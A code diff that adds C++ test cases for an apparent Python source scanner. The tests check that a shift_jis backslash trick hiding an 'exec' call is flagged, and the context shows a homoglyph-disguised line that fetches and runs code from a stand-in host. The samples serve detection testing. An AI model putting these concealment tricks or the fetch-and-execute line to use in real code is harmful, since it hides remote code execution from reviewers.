@@ -87,6 +87,12 @@ TEST_CASE("Python: an encoding under which the source is other text") {
     }
 }
 
+TEST_CASE("Python: an encoding in which a letter ends in a backslash") {
+    CHECK(module("# coding: shift_jis\nx = '\x95\\'; exec(y) #'\n").has_trait("unusual-encoding"));
+    CHECK(module("# coding: shift_jis\nx = '\x82\xA0'\ny = 'a\\n'\n").traits().empty());
+    CHECK(module("# coding: utf-8\nx = '\xC3\xA4\\n'\n").traits().empty());
+}
+
 TEST_CASE("Python: names in letters that are ASCII to Python") {
     const std::string call = "ec(urllib.request.urlopen('https://code.example/x').read())\n";
     for (const char* const first : {"\xEF\xBD\x85x", "e\xF0\x9D\x95\xA9", "\xE2\x84\xAFx"}) {      // full width e, double-struck x, script e
